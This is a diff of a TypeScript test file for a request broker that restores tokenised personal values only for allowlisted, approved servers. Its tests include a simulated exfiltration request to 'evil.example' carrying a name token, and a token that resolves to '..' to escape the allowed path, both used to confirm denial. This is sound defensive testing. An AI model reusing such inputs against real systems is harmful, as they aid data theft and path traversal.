@@ -1,31 +1,13 @@
 // Privacy mode at the broker (issue 26): real values go only into the bytes sent to an allowed, approved server; the
 // log, the reply and every denial keep the request as the script wrote it (tokens).
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { PrivacyVault, restoreRequest } from '../../core/privacy';
 import type { ApprovalRequest, BrokerRequest, SandboxConfig } from '../contract';
 import { createBroker } from './broker';
+import { startRecordingServer } from '../../../test-support/recordingServer';
 
-const hits: Array<{ url: string; body: string }> = [];
-let server: http.Server;
-let base = '';
-
-beforeAll(async () => {
-  server = http.createServer((req, res) => {
-    let body = '';
-    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
-    req.on('end', () => {
-      hits.push({ url: req.url ?? '', body });
-      res.writeHead(200, { 'Content-Type': 'application/json' });
-      res.end('{}');
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-});
-afterAll(() => server.close());
-beforeEach(() => (hits.length = 0));
+const srv = startRecordingServer(() => ({ status: 200, body: '{}' }));
+const hits = srv.hits;
 
 function setup(config: Partial<SandboxConfig> = {}) {
   const vault = new PrivacyVault(['name']);
@@ -36,14 +18,14 @@ function setup(config: Partial<SandboxConfig> = {}) {
     restored.push(out);
     return out;
   };
-  const broker = createBroker({ allowlist: [{ origin: base, pathPrefix: '/api' }], baseUrl: `${base}/api`, ...config }, { restore });
+  const broker = createBroker({ allowlist: [{ origin: srv.base(), pathPrefix: '/api' }], baseUrl: `${srv.base()}/api`, ...config }, { restore });
   return { broker, restored };
 }
 
 describe('privacy values at the broker', () => {
   it('sends real values to the allowed server; the reply URL and the log keep the tokens', async () => {
     const { broker } = setup();
-    const url = `${base}/api/orders?name=%5BNAME_1%5D&phone=%5BPHONE_1%5D`;
+    const url = `${srv.base()}/api/orders?name=%5BNAME_1%5D&phone=%5BPHONE_1%5D`;
     const { reply, log } = await broker.request({ method: 'GET', url, headers: {} });
     expect(hits[0]?.url).toBe('/api/orders?name=Zelda%20Quarrington&phone=%2B1%20415%20555%200142');
     expect(reply.ok && reply.url).toBe(url);
@@ -54,7 +36,7 @@ describe('privacy values at the broker', () => {
   it('never gives real values to a request outside the allowlist or refused by the policy', async () => {
     const { broker, restored } = setup({ requests: { policy: 'read-only' } });
     const outside = await broker.request({ method: 'GET', url: 'https://evil.example/x?name=[NAME_1]', headers: {} });
-    const write = await broker.request({ method: 'POST', url: `${base}/api/notes`, headers: { 'Content-Type': 'application/json' }, body: '{"to": "[NAME_1]"}' });
+    const write = await broker.request({ method: 'POST', url: `${srv.base()}/api/notes`, headers: { 'Content-Type': 'application/json' }, body: '{"to": "[NAME_1]"}' });
     expect(outside.reply.ok).toBe(false);
     expect(write.reply.ok).toBe(false);
     expect(restored).toEqual([]);
@@ -65,10 +47,10 @@ describe('privacy values at the broker', () => {
   it('asks the user with the real values, after the allowlist; the denial the script and the log get keeps the tokens', async () => {
     const asked: ApprovalRequest[] = [];
     const { broker, restored } = setup({ requests: { policy: 'ask', approve: (req) => (asked.push(req), Promise.resolve('deny')) } });
-    const url = `${base}/api/customers/%5BNAME_1%5D/notes`;
+    const url = `${srv.base()}/api/customers/%5BNAME_1%5D/notes`;
     const { reply, log } = await broker.request({ method: 'POST', url, headers: { 'Content-Type': 'application/json', 'X-Who': '[NAME_1]' }, body: '{"to": "[PHONE_1]"}' });
     expect(asked).toHaveLength(1);
-    expect(asked[0]).toMatchObject({ url: `${base}/api/customers/Zelda%20Quarrington/notes`, headers: { 'X-Who': 'Zelda Quarrington' }, realValues: true });
+    expect(asked[0]).toMatchObject({ url: `${srv.base()}/api/customers/Zelda%20Quarrington/notes`, headers: { 'X-Who': 'Zelda Quarrington' }, realValues: true });
     expect(asked[0]?.bodyPreview).toContain('"to": "+1 415 555 0142"');
     expect(restored).toHaveLength(1);
     expect(reply).toMatchObject({ ok: false, kind: 'denied' });
@@ -80,8 +62,8 @@ describe('privacy values at the broker', () => {
   it('asks with the request as written when it holds no token', async () => {
     const asked: ApprovalRequest[] = [];
     const { broker } = setup({ requests: { policy: 'ask', approve: (req) => (asked.push(req), Promise.resolve('allow')) } });
-    await broker.request({ method: 'POST', url: `${base}/api/notes`, headers: {}, body: 'hello' });
-    expect(asked[0]).toMatchObject({ url: `${base}/api/notes`, bodyPreview: 'hello' });
+    await broker.request({ method: 'POST', url: `${srv.base()}/api/notes`, headers: {}, body: 'hello' });
+    expect(asked[0]).toMatchObject({ url: `${srv.base()}/api/notes`, bodyPreview: 'hello' });
     expect(asked[0]?.realValues).toBeUndefined();
     expect(hits).toHaveLength(1);
   });
@@ -89,10 +71,10 @@ describe('privacy values at the broker', () => {
   it('denies a request whose restored URL leaves the allowed path, without naming the value', async () => {
     const vault = new PrivacyVault(['name']);
     vault.tokenize('{"name": ".."}');
-    const broker = createBroker({ allowlist: [{ origin: base, pathPrefix: '/api' }], baseUrl: `${base}/api` }, {
+    const broker = createBroker({ allowlist: [{ origin: srv.base(), pathPrefix: '/api' }], baseUrl: `${srv.base()}/api` }, {
       restore: (req) => restoreRequest(vault, req),
     });
-    const { reply, log } = await broker.request({ method: 'GET', url: `${base}/api/[NAME_1]/[NAME_1]/secret`, headers: {} });
+    const { reply, log } = await broker.request({ method: 'GET', url: `${srv.base()}/api/[NAME_1]/[NAME_1]/secret`, headers: {} });
     expect(reply).toMatchObject({ ok: false, kind: 'denied' });
     expect(log.allowed).toBe(false);
     expect(hits).toEqual([]);
